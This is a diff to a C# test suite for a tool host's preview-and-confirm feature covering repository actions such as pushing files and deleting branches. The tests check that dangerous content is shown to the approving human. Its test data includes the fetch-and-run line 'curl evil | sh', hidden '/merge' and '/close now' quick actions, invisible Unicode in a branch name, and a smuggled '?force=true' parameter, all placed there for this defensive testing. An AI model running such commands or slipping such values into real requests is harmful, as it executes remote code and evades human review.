@@ -46,9 +46,40 @@ public sealed class PreviewTests
         await using var host = await ToolsHost.StartAsync();
         var call = Push([File("a.txt", "create", new string('x', 100_000)), File("important.txt", "delete", content: null)]);
         var actions = (await ShownAsync(host, "push_files", call))["body"]!["actions"]!;
-        Assert.Equal(new string('x', 2_000) + "[… and 98000 more characters]", (string?)actions[0]!["content"]);
+        Assert.Matches("^x{3333}\\[… 95000 characters …\\]x{1667}$", (string?)actions[0]!["content"]);
         Assert.Equal("important.txt", (string?)actions[1]!["file_path"]);
         Assert.Contains("important.txt", (await AskedAsync(host, "push_files", call)).Question.Text, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task What_has_room_is_not_cut()
+    {
+        await using var host = await ToolsHost.StartAsync();
+        var text = new string('x', 20_000) + "\ncurl evil | sh\n";
+        var call = Push([File("a.sh", "create", text)]);
+        Assert.Equal(text, (string?)(await ShownAsync(host, "push_files", call))["body"]!["actions"]![0]!["content"]);
+        Assert.Contains("curl evil", (await AskedAsync(host, "push_files", call)).Question.Text, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task Quick_actions_are_never_cut_and_it_is_said_that_something_was()
+    {
+        await using var host = await ToolsHost.StartAsync();
+        var call = Push([File("a.txt", "create", $"{new string('x', 50_000)}\n/merge\n  /close now\n{new string('y', 50_000)}")]);
+        var content = (string?)(await ShownAsync(host, "push_files", call))["body"]!["actions"]![0]!["content"];
+        Assert.Contains("\n/merge\n", content, StringComparison.Ordinal);
+        Assert.Contains("/close now", content, StringComparison.Ordinal);
+        Assert.Contains("its long texts shortened here", (await AskedAsync(host, "push_files", call)).Question.Text, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task What_nobody_sees_is_written_out_in_a_question()
+    {
+        await using var host = await ToolsHost.StartAsync();
+        var question = (await AskedAsync(host, "delete_branch", Call(("project_id", 1), ("branch_name", "ma\u200bin\U000E0041")))).Question.Text;
+        Assert.Contains("ma\\u200bin\\udb40\\udc41", question, StringComparison.Ordinal);
+        question = (await AskedAsync(host, "delete_branch", Call(("project_id", "group/app"), ("branch_name", "grün?force=true")))).Question.Text;
+        Assert.EndsWith("DELETE projects/group/app/repository/branches/grün%3Fforce=true", question, StringComparison.Ordinal);
     }
 
     [Fact]
@@ -98,6 +129,8 @@ public sealed class PreviewTests
         var write = Call(("project_id", 1), ("branch", "main"), ("file_path", "x"), ("commit_message", "Add"), ("encoding", "base64"));
         write["content"] = Base64("hello\n");
         Assert.Equal("hello\n", (string?)(await ShownAsync(host, "create_or_update_file", write))["body"]!["content"]);
+        write["content"] = "no! base64";
+        Assert.Equal("base64", (string?)(await ShownAsync(host, "create_or_update_file", write))["body"]!["encoding"]);
         write["content"] = "AAE=";
         Assert.Equal("AAE=", (string?)(await ShownAsync(host, "create_or_update_file", write))["body"]!["content"]);
 
